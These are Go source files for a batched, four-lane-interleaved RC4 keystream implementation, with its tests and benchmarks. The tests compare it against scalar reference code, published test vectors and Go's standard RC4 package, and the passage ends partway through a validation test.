package rc4

// The MultiCipher compute kernels.
//
// The loops are inverted relative to a naive batch walk: the outer loop
// picks a group of laneGroup lanes, and the inner loop runs all requested
// rounds for just that group, carrying the group's j indices (and the public
// counter i) in registers the whole way. Lanes own disjoint 256-byte S
// blocks, so group passes commute and the batch result is independent of the
// grouping. The laneGroup independent j-chains give the out-of-order core
// its parallelism; the serial recurrence left per lane is a single add per
// round, because the x = S[i] load address depends only on the public i.
//
// Why lane-major and not an element-major SoA row walk: profiling the
// row-major variant showed the kernel entirely throughput-bound on address
// arithmetic — every S access needed an index*MultiLanes shift plus an LEA
// chain for the lane offset, and the extra live temporaries spilled the j
// registers to the stack. With each lane's S contiguous, the group's four
// blocks sit at constant offsets 0/256/512/768 from one reslice, so every
// access folds into a single load with a constant displacement and the whole
// working set of a pass (4×256 B of S plus the destinations) stays in a
// handful of registers and L1 lines.
//
// Bounds-check elimination: each pass narrows m.s (and m.kbuf) to a
// laneGroup*StateSize array pointer — an explicit array type, because prove
// does not recover a constant length from a variable-base reslice — and
// every index inside is a uint8 plus a constant block offset, so the prove
// pass drops all checks in the hot loops — run
// `go build -gcflags='-d=ssa/check_bce/debug=1' ./internal/rc4` to verify
// when changing them.

// laneGroup is how many lanes one kernel pass interleaves. Four j-chains in
// flight hide the add/load latencies without spilling the per-lane
// temporaries out of registers on amd64 or arm64.
const laneGroup = 4

// ksa runs the batched Key Scheduling Algorithm over the tiled key material
// in m.kbuf, leaving every lane keyed and the PRGA indices reset. The KSA's
// mixing counter is public and key-independent — exactly like the PRGA's i —
// so lanes batch the same way.
func (m *MultiCipher) ksa() {
	for l := 0; l < MultiLanes; l++ {
		blk := m.s[l*StateSize : l*StateSize+StateSize]
		for p := range blk {
			blk[p] = byte(p)
		}
	}
	for l0 := 0; l0 < MultiLanes; l0 += laneGroup {
		m.ksaLanes(l0)
	}
	m.i = 0
	m.j = [MultiLanes]uint8{}
}

// ksaLanes runs the KSA mixing loop for lanes l0..l0+laneGroup-1.
func (m *MultiCipher) ksaLanes(l0 int) {
	l0 &= MultiLanes - laneGroup
	s := (*[laneGroup * StateSize]byte)(m.s[l0*StateSize:])
	k := (*[laneGroup * StateSize]byte)(m.kbuf[l0*StateSize:])
	var j0, j1, j2, j3 uint8
	for p := 0; p < StateSize; p++ {
		x0 := s[p]
		j0 += x0 + k[p]
		s[p] = s[int(j0)]
		s[int(j0)] = x0

		x1 := s[p+StateSize]
		j1 += x1 + k[p+StateSize]
		s[p+StateSize] = s[int(j1)+StateSize]
		s[int(j1)+StateSize] = x1

		x2 := s[p+2*StateSize]
		j2 += x2 + k[p+2*StateSize]
		s[p+2*StateSize] = s[int(j2)+2*StateSize]
		s[int(j2)+2*StateSize] = x2

		x3 := s[p+3*StateSize]
		j3 += x3 + k[p+3*StateSize]
		s[p+3*StateSize] = s[int(j3)+3*StateSize]
		s[int(j3)+3*StateSize] = x3
	}
}

// runLanes advances lanes l0..l0+laneGroup-1: skip rounds without output,
// then one keystream byte per round into d0..d3 (equal lengths; nil for
// skip-only). The caller owns updating m.i — runLanes walks a local copy so
// every group pass starts from the same counter. A skip round is a generate
// round minus the output gather; the output byte reads S after both swap
// stores, matching the scalar PRGA (when x+y lands on i or j, the gather
// must observe the fresh value).
func (m *MultiCipher) runLanes(l0, skip int, d0, d1, d2, d3 []byte) {
	l0 &= MultiLanes - laneGroup
	s := (*[laneGroup * StateSize]byte)(m.s[l0*StateSize:])
	i := m.i
	j0, j1, j2, j3 := m.j[l0], m.j[l0+1], m.j[l0+2], m.j[l0+3]
	for ; skip > 0; skip-- {
		i++
		ii := int(i)

		x0 := s[ii]
		j0 += x0
		y0 := s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0

		x1 := s[ii+StateSize]
		j1 += x1
		y1 := s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1

		x2 := s[ii+2*StateSize]
		j2 += x2
		y2 := s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2

		x3 := s[ii+3*StateSize]
		j3 += x3
		y3 := s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
	}
	d1 = d1[:len(d0)]
	d2 = d2[:len(d0)]
	d3 = d3[:len(d0)]
	// Generate loop, unrolled 8 rounds deep. The kernel is front-end
	// bound, so the unroll exists to make every index a small constant:
	// the destinations advance by 8 each block and the output writes
	// d[0..7] fold into constant store displacements, the same way the
	// lane offsets fold into the S accesses. The anchor loads below teach
	// prove that d1..d3 are as long as d0 (the reslices above guarantee
	// it), killing the per-write bounds checks; the tail loop handles the
	// last len%8 rounds one byte at a time.
	for len(d0) >= 8 {
		_, _, _ = d1[7], d2[7], d3[7]
		i++
		ii := int(i)
		x0 := s[ii]
		j0 += x0
		y0 := s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[0] = s[int(x0+y0)]
		x1 := s[ii+StateSize]
		j1 += x1
		y1 := s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[0] = s[int(x1+y1)+StateSize]
		x2 := s[ii+2*StateSize]
		j2 += x2
		y2 := s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[0] = s[int(x2+y2)+2*StateSize]
		x3 := s[ii+3*StateSize]
		j3 += x3
		y3 := s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[0] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[1] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[1] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[1] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[1] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[2] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[2] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[2] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[2] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[3] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[3] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[3] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[3] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[4] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[4] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[4] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[4] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[5] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[5] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[5] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[5] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[6] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[6] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[6] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[6] = s[int(x3+y3)+3*StateSize]

		i++
		ii = int(i)
		x0 = s[ii]
		j0 += x0
		y0 = s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[7] = s[int(x0+y0)]
		x1 = s[ii+StateSize]
		j1 += x1
		y1 = s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[7] = s[int(x1+y1)+StateSize]
		x2 = s[ii+2*StateSize]
		j2 += x2
		y2 = s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[7] = s[int(x2+y2)+2*StateSize]
		x3 = s[ii+3*StateSize]
		j3 += x3
		y3 = s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[7] = s[int(x3+y3)+3*StateSize]

		d0 = d0[8:]
		d1 = d1[8:]
		d2 = d2[8:]
		d3 = d3[8:]
	}
	for r := range d0 {
		i++
		ii := int(i)

		x0 := s[ii]
		j0 += x0
		y0 := s[int(j0)]
		s[ii] = y0
		s[int(j0)] = x0
		d0[r] = s[int(x0+y0)]

		x1 := s[ii+StateSize]
		j1 += x1
		y1 := s[int(j1)+StateSize]
		s[ii+StateSize] = y1
		s[int(j1)+StateSize] = x1
		d1[r] = s[int(x1+y1)+StateSize]

		x2 := s[ii+2*StateSize]
		j2 += x2
		y2 := s[int(j2)+2*StateSize]
		s[ii+2*StateSize] = y2
		s[int(j2)+2*StateSize] = x2
		d2[r] = s[int(x2+y2)+2*StateSize]

		x3 := s[ii+3*StateSize]
		j3 += x3
		y3 := s[int(j3)+3*StateSize]
		s[ii+3*StateSize] = y3
		s[int(j3)+3*StateSize] = x3
		d3[r] = s[int(x3+y3)+3*StateSize]
	}
	m.j[l0], m.j[l0+1], m.j[l0+2], m.j[l0+3] = j0, j1, j2, j3
}
