package rc4

import (
	"bytes"
	"testing"
)

// scalarKeystream is the pre-batching reference PRGA: one round per loop
// iteration, re-reading S[i] and S[j] after the swap. The batched Keystream
// and SkipKeystream must match it byte for byte; the benchmarks below
// measure the speedup against it.
func scalarKeystream(c *Cipher, dst []byte) {
	i, j := c.i, c.j
	s := &c.s
	for n := range dst {
		i++
		j += s[i]
		s[i], s[j] = s[j], s[i]
		dst[n] = s[uint8(s[i]+s[j])]
	}
	c.i, c.j = i, j
}

// scalarSkip is the pre-batching reference skip loop.
func scalarSkip(c *Cipher, n int) {
	i, j := c.i, c.j
	s := &c.s
	for ; n > 0; n-- {
		i++
		j += s[i]
		s[i], s[j] = s[j], s[i]
	}
	c.i, c.j = i, j
}

func testKey(kl int) []byte {
	key := make([]byte, kl)
	for n := range key {
		key[n] = byte(7*n + 3*kl + 1)
	}
	return key
}

// TestKeystreamMatchesScalar pins the batched PRGA against the scalar
// reference across key lengths and buffer sizes, including 0, 1, and sizes
// that are not multiples of the 8-round unroll, and across repeated calls so
// the carried i/j state is exercised at every alignment.
func TestKeystreamMatchesScalar(t *testing.T) {
	sizes := []int{0, 1, 2, 3, 7, 8, 9, 15, 16, 17, 63, 64, 65, 255, 256, 257, 1000, 1024}
	for _, kl := range []int{1, 2, 5, 13, 16, 32, 256} {
		key := testKey(kl)
		a := MustNew(key)
		b := MustNew(key)
		for _, size := range sizes {
			got := make([]byte, size)
			want := make([]byte, size)
			a.Keystream(got)
			scalarKeystream(b, want)
			if !bytes.Equal(got, want) {
				t.Fatalf("key len %d size %d: batched diverged from scalar", kl, size)
			}
			ai, aj := a.i, a.j
			if ai != b.i || aj != b.j {
				t.Fatalf("key len %d size %d: state diverged (i %d/%d, j %d/%d)", kl, size, ai, b.i, aj, b.j)
			}
		}
	}
}

// TestSkipMatchesScalar pins the unrolled Skip against the scalar reference
// across skip amounts including 0 and non-multiples of 8.
func TestSkipMatchesScalar(t *testing.T) {
	for _, kl := range []int{1, 5, 16, 40} {
		key := testKey(kl)
		for _, skip := range []int{0, 1, 3, 7, 8, 9, 12, 255, 256, 1023, 1024, 4097} {
			a := MustNew(key)
			b := MustNew(key)
			a.Skip(skip)
			scalarSkip(b, skip)
			ga, gb := make([]byte, 64), make([]byte, 64)
			a.Keystream(ga)
			scalarKeystream(b, gb)
			if !bytes.Equal(ga, gb) {
				t.Fatalf("key len %d skip %d: diverged", kl, skip)
			}
		}
	}
}

// TestSkipKeystreamMatchesScalar pins the fused skip+generate call against
// separate scalar Skip and Keystream across skips and buffer sizes.
func TestSkipKeystreamMatchesScalar(t *testing.T) {
	for _, kl := range []int{1, 16, 256} {
		key := testKey(kl)
		for _, skip := range []int{0, 1, 7, 8, 9, 100, 1023, 1279} {
			for _, size := range []int{0, 1, 7, 8, 9, 96, 257} {
				a := MustNew(key)
				b := MustNew(key)
				got := make([]byte, size)
				want := make([]byte, size)
				a.SkipKeystream(skip, got)
				scalarSkip(b, skip)
				scalarKeystream(b, want)
				if !bytes.Equal(got, want) {
					t.Fatalf("key len %d skip %d size %d: fused diverged", kl, skip, size)
				}
			}
		}
	}
}

// TestSkipKeystreamNegativeSkip checks the defensive no-op for skip <= 0,
// matching Skip's historical behavior.
func TestSkipKeystreamNegativeSkip(t *testing.T) {
	a := MustNew(testKey(16))
	b := MustNew(testKey(16))
	got, want := make([]byte, 32), make([]byte, 32)
	a.SkipKeystream(-5, got)
	b.Keystream(want)
	if !bytes.Equal(got, want) {
		t.Fatal("negative skip did not behave as zero")
	}
}

// TestRekeyMatchesNew checks that Rekey on a dirty cipher equals a fresh New.
func TestRekeyMatchesNew(t *testing.T) {
	var c Cipher
	if err := c.Rekey(testKey(16)); err != nil {
		t.Fatal(err)
	}
	c.Skip(999) // dirty the state
	key2 := testKey(24)
	if err := c.Rekey(key2); err != nil {
		t.Fatal(err)
	}
	fresh := MustNew(key2)
	got, want := make([]byte, 300), make([]byte, 300)
	c.Keystream(got)
	fresh.Keystream(want)
	if !bytes.Equal(got, want) {
		t.Fatal("Rekey diverged from New")
	}
	if err := c.Rekey(nil); err == nil {
		t.Error("Rekey accepted empty key")
	}
	if err := c.Rekey(make([]byte, 257)); err == nil {
		t.Error("Rekey accepted oversized key")
	}
}

func BenchmarkKeystreamScalar1K(b *testing.B) {
	c := MustNew([]byte("sixteen byte key"))
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for n := 0; n < b.N; n++ {
		scalarKeystream(c, buf)
	}
}

func BenchmarkSkip1K(b *testing.B) {
	c := MustNew([]byte("sixteen byte key"))
	b.SetBytes(1024)
	for n := 0; n < b.N; n++ {
		c.Skip(1024)
	}
}

func BenchmarkSkipKeystream(b *testing.B) {
	// The engine's per-key long-term pattern: 1023-byte drop + 257-byte
	// first window.
	c := MustNew([]byte("sixteen byte key"))
	buf := make([]byte, 257)
	b.SetBytes(1023 + 257)
	for n := 0; n < b.N; n++ {
		c.SkipKeystream(1023, buf)
	}
}

func BenchmarkRekey(b *testing.B) {
	key := []byte("sixteen byte key")
	var c Cipher
	for n := 0; n < b.N; n++ {
		if err := c.Rekey(key); err != nil {
			b.Fatal(err)
		}
	}
}
