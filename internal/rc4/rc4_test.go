package rc4

import (
	"bytes"
	stdrc4 "crypto/rc4"
	"testing"
	"testing/quick"
)

// Known-answer vectors from RFC 6229 (selected offsets) and the original
// Schneier test vectors.
var kats = []struct {
	key    []byte
	offset int
	want   []byte
}{
	// Schneier, Applied Cryptography.
	{[]byte{0x01, 0x23, 0x45, 0x67, 0x89, 0xab, 0xcd, 0xef}, 0,
		[]byte{0x74, 0x94, 0xc2, 0xe7, 0x10, 0x4b, 0x08, 0x79}},
	{[]byte{0xef, 0x01, 0x23, 0x45}, 0,
		[]byte{0xd6, 0xa1, 0x41, 0xa7, 0xec, 0x3c, 0x38, 0xdf, 0xbd, 0x61}},
	// RFC 6229, 40-bit key 0x0102030405, offset 0.
	{[]byte{0x01, 0x02, 0x03, 0x04, 0x05}, 0,
		[]byte{0xb2, 0x39, 0x63, 0x05, 0xf0, 0x3d, 0xc0, 0x27,
			0xcc, 0xc3, 0x52, 0x4a, 0x0a, 0x11, 0x18, 0xa8}},
	// RFC 6229, 40-bit key 0x0102030405, offset 240.
	{[]byte{0x01, 0x02, 0x03, 0x04, 0x05}, 240,
		[]byte{0x28, 0xcb, 0x11, 0x32, 0xc9, 0x6c, 0xe2, 0x86,
			0x42, 0x1d, 0xca, 0xad, 0xb8, 0xb6, 0x9e, 0xae}},
	// RFC 6229, 128-bit key 0x0102..0d0e0f10, offset 0.
	{[]byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f, 0x10}, 0,
		[]byte{0x9a, 0xc7, 0xcc, 0x9a, 0x60, 0x9d, 0x1e, 0xf7,
			0xb2, 0x93, 0x28, 0x99, 0xcd, 0xe4, 0x1b, 0x97}},
	// RFC 6229, 128-bit key, offset 1536.
	{[]byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f, 0x10}, 1536,
		[]byte{0xff, 0xa0, 0xb5, 0x14, 0x64, 0x7e, 0xc0, 0x4f,
			0x63, 0x06, 0xb8, 0x92, 0xae, 0x66, 0x11, 0x81}},
}

func TestKnownAnswers(t *testing.T) {
	for ti, v := range kats {
		c := MustNew(v.key)
		c.Skip(v.offset)
		got := make([]byte, len(v.want))
		c.Keystream(got)
		if !bytes.Equal(got, v.want) {
			t.Errorf("vector %d: got % x want % x", ti, got, v.want)
		}
	}
}

func TestMatchesStdlib(t *testing.T) {
	// Cross-check against crypto/rc4 for many keys and lengths.
	for kl := 1; kl <= 32; kl++ {
		key := make([]byte, kl)
		for n := range key {
			key[n] = byte(3*n + kl)
		}
		ours := MustNew(key)
		std, err := stdrc4.NewCipher(key)
		if err != nil {
			t.Fatalf("stdlib rejected key len %d: %v", kl, err)
		}
		in := make([]byte, 777)
		want := make([]byte, len(in))
		got := make([]byte, len(in))
		std.XORKeyStream(want, in)
		ours.XORKeyStream(got, in)
		if !bytes.Equal(got, want) {
			t.Fatalf("key len %d: keystream mismatch with crypto/rc4", kl)
		}
	}
}

func TestKeySizeErrors(t *testing.T) {
	if _, err := New(nil); err == nil {
		t.Error("nil key accepted")
	}
	if _, err := New(make([]byte, 257)); err == nil {
		t.Error("257-byte key accepted")
	}
	if _, err := New(make([]byte, 256)); err != nil {
		t.Errorf("256-byte key rejected: %v", err)
	}
	var kse KeySizeError = 300
	if kse.Error() == "" {
		t.Error("empty error string")
	}
}

func TestEncryptDecryptRoundTrip(t *testing.T) {
	key := []byte("sixteen byte key")
	plain := []byte("attack at dawn: the quick brown fox jumps over the lazy dog")
	enc := MustNew(key)
	dec := MustNew(key)
	ct := make([]byte, len(plain))
	pt := make([]byte, len(plain))
	enc.XORKeyStream(ct, plain)
	dec.XORKeyStream(pt, ct)
	if !bytes.Equal(pt, plain) {
		t.Fatal("round trip failed")
	}
	if bytes.Equal(ct, plain) {
		t.Fatal("ciphertext equals plaintext")
	}
}

func TestNextMatchesKeystream(t *testing.T) {
	key := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	a := MustNew(key)
	b := MustNew(key)
	buf := make([]byte, 512)
	a.Keystream(buf)
	for n, want := range buf {
		if got := b.Next(); got != want {
			t.Fatalf("byte %d: Next=%#x Keystream=%#x", n, got, want)
		}
	}
}

func TestSkipEquivalence(t *testing.T) {
	key := []byte("skipskipskip")
	for _, skip := range []int{0, 1, 2, 255, 256, 257, 1023, 4096} {
		a := MustNew(key)
		b := MustNew(key)
		a.Skip(skip)
		discard := make([]byte, skip)
		b.Keystream(discard)
		ga, gb := make([]byte, 64), make([]byte, 64)
		a.Keystream(ga)
		b.Keystream(gb)
		if !bytes.Equal(ga, gb) {
			t.Fatalf("skip %d: diverged", skip)
		}
	}
}

func TestStatePermutationInvariant(t *testing.T) {
	// Property: S remains a permutation of 0..255 through KSA and PRGA.
	check := func(c *Cipher) bool {
		s, _, _ := c.State()
		var seen [StateSize]bool
		for _, v := range s {
			if seen[v] {
				return false
			}
			seen[v] = true
		}
		return true
	}
	f := func(key []byte, rounds uint16) bool {
		if len(key) == 0 {
			key = []byte{0}
		}
		if len(key) > MaxKeyLen {
			key = key[:MaxKeyLen]
		}
		c := MustNew(key)
		if !check(c) {
			return false
		}
		c.Skip(int(rounds))
		return check(c)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestNewFromState(t *testing.T) {
	key := []byte("statekey")
	a := MustNew(key)
	a.Skip(100)
	s, i, j := a.State()
	b := NewFromState(s, i, j)
	ga, gb := make([]byte, 128), make([]byte, 128)
	a.Keystream(ga)
	b.Keystream(gb)
	if !bytes.Equal(ga, gb) {
		t.Fatal("NewFromState clone diverged")
	}
}

func TestXORKeyStreamPanicsOnShortDst(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	c := MustNew([]byte{1})
	c.XORKeyStream(make([]byte, 1), make([]byte, 2))
}

func TestReset(t *testing.T) {
	c := MustNew([]byte("secret secret"))
	c.Reset()
	s, i, j := c.State()
	if i != 0 || j != 0 {
		t.Error("indices not reset")
	}
	for _, v := range s {
		if v != 0 {
			t.Fatal("state not zeroed")
		}
	}
}

func TestMantinShamirZ2Bias(t *testing.T) {
	// Sanity-check the most famous bias: Pr[Z2 = 0] ≈ 2/256. With 200k
	// random keys the expected count at uniform is ~781, biased ~1562.
	// This doubles as an end-to-end statistical test of the cipher.
	const trials = 200000
	key := make([]byte, 16)
	var zeros int
	seed := uint64(0x9e3779b97f4a7c15)
	for n := 0; n < trials; n++ {
		for b := range key {
			seed = seed*6364136223846793005 + 1442695040888963407
			key[b] = byte(seed >> 33)
		}
		c := MustNew(key)
		c.Next()
		if c.Next() == 0 {
			zeros++
		}
	}
	// Expected biased count 1562, uniform 781. Accept anything > 1200.
	if zeros < 1200 {
		t.Errorf("Z2=0 count %d: Mantin–Shamir bias missing (uniform ~781, biased ~1562)", zeros)
	}
}

func BenchmarkKeystream1K(b *testing.B) {
	c := MustNew([]byte("sixteen byte key"))
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for n := 0; n < b.N; n++ {
		c.Keystream(buf)
	}
}

func BenchmarkKSA(b *testing.B) {
	key := []byte("sixteen byte key")
	for n := 0; n < b.N; n++ {
		var c Cipher
		c.ksa(key)
	}
}
