package rc4

import (
	"bytes"
	"testing"
)

// multiTestKeys builds MultiLanes distinct keys of length kl (or of mixed
// lengths when kl <= 0).
func multiTestKeys(kl int) [][]byte {
	keys := make([][]byte, MultiLanes)
	for l := range keys {
		n := kl
		if n <= 0 {
			n = 1 + (l*7+3)%MaxKeyLen
		}
		key := make([]byte, n)
		for b := range key {
			key[b] = byte(13*b + 31*l + n)
		}
		keys[l] = key
	}
	return keys
}

func lanes(size int) [][]byte {
	d := make([][]byte, MultiLanes)
	for l := range d {
		d[l] = make([]byte, size)
	}
	return d
}

// TestMultiMatchesScalar pins every lane of the SoA backend against an
// independent scalar Cipher across key lengths, buffer sizes (including 0,
// 1, and non-multiples of the unrolled 8-round block), and repeated calls so carried
// i/j state is exercised at every alignment — the MultiCipher sibling of
// TestKeystreamMatchesScalar.
func TestMultiMatchesScalar(t *testing.T) {
	sizes := []int{0, 1, 2, 7, 8, 9, 63, 64, 65, 255, 256, 257, 511, 512, 513, 1000}
	for _, kl := range []int{1, 2, 5, 13, 16, 32, 256, -1} {
		keys := multiTestKeys(kl)
		m := NewMulti()
		if err := m.Rekey(keys); err != nil {
			t.Fatal(err)
		}
		refs := make([]*Cipher, MultiLanes)
		for l := range refs {
			refs[l] = MustNew(keys[l])
		}
		for _, size := range sizes {
			got := lanes(size)
			m.Keystream(got)
			for l, ref := range refs {
				want := make([]byte, size)
				ref.Keystream(want)
				if !bytes.Equal(got[l], want) {
					t.Fatalf("key len %d size %d lane %d: SoA diverged from scalar", kl, size, l)
				}
				if m.j[l] != ref.j {
					t.Fatalf("key len %d size %d lane %d: j diverged (%d vs %d)", kl, size, l, m.j[l], ref.j)
				}
			}
			if m.i != refs[0].i {
				t.Fatalf("key len %d size %d: i diverged (%d vs %d)", kl, size, m.i, refs[0].i)
			}
		}
	}
}

// TestMultiSkipKeystreamMatchesScalar pins the fused skip+generate call per
// lane across skip amounts and window sizes, including skips spanning
// multiple wraps of the public counter.
func TestMultiSkipKeystreamMatchesScalar(t *testing.T) {
	for _, skip := range []int{0, 1, 7, 8, 9, 100, 255, 256, 257, 1023, 1024, 1279, 4097} {
		for _, size := range []int{0, 1, 9, 96, 257} {
			keys := multiTestKeys(16)
			m := NewMulti()
			if err := m.Rekey(keys); err != nil {
				t.Fatal(err)
			}
			got := lanes(size)
			m.SkipKeystream(skip, got)
			for l := range keys {
				ref := MustNew(keys[l])
				want := make([]byte, size)
				ref.SkipKeystream(skip, want)
				if !bytes.Equal(got[l], want) {
					t.Fatalf("skip %d size %d lane %d: diverged", skip, size, l)
				}
			}
		}
	}
}

// TestMultiRekeyReuse checks that re-keying a dirty MultiCipher equals a
// fresh batch — the engine re-keys one MultiCipher per shard for the whole
// run.
func TestMultiRekeyReuse(t *testing.T) {
	m := NewMulti()
	if err := m.Rekey(multiTestKeys(16)); err != nil {
		t.Fatal(err)
	}
	m.Skip(999) // dirty every lane
	keys := multiTestKeys(24)
	if err := m.Rekey(keys); err != nil {
		t.Fatal(err)
	}
	got := lanes(300)
	m.Keystream(got)
	for l := range keys {
		want := make([]byte, 300)
		MustNew(keys[l]).Keystream(want)
		if !bytes.Equal(got[l], want) {
			t.Fatalf("lane %d: Rekey diverged from fresh scalar", l)
		}
	}
}

// TestMultiLaneExtraction checks that Lane peels off a scalar Cipher that
// continues the lane's keystream bit for bit.
func TestMultiLaneExtraction(t *testing.T) {
	keys := multiTestKeys(16)
	m := NewMulti()
	if err := m.Rekey(keys); err != nil {
		t.Fatal(err)
	}
	m.Skip(100)
	for _, l := range []int{0, 1, MultiLanes / 2, MultiLanes - 1} {
		c := m.Lane(l)
		ref := MustNew(keys[l])
		ref.Skip(100)
		got, want := make([]byte, 128), make([]byte, 128)
		c.Keystream(got)
		ref.Keystream(want)
		if !bytes.Equal(got, want) {
			t.Fatalf("lane %d: extracted cipher diverged", l)
		}
	}
}

// TestMultiValidation covers the error and panic contracts: wrong key
// counts, bad key lengths, mismatched destination shapes, negative skip,
// and out-of-range lane extraction.
func TestMultiValidation(t *testing.T) {
	m := NewMulti()
	if err := m.Rekey(multiTestKeys(16)[:MultiLanes-1]); err == nil {
		t.Error("short key batch accepted")
	}
	bad := multiTestKeys(16)
	bad[3] = nil
	if err := m.Rekey(bad); err == nil {
		t.Error("empty lane key accepted")
	}
	bad[3] = make([]byte, 257)
	if err := m.Rekey(bad); err == nil {
		t.Error("oversized lane key accepted")
	}
	if err := m.Rekey(multiTestKeys(16)); err != nil {
		t.Fatal(err)
	}
	if m.Lanes() != MultiLanes {
		t.Errorf("Lanes() = %d", m.Lanes())
	}
	// Negative skip is a no-op, matching Cipher.SkipKeystream.
	got := lanes(16)
	m.SkipKeystream(-5, got)
	want := make([]byte, 16)
	MustNew(multiTestKeys(16)[0]).Keystream(want)
	if !bytes.Equal(got[0], want) {
		t.Error("negative skip did not behave as zero")
	}
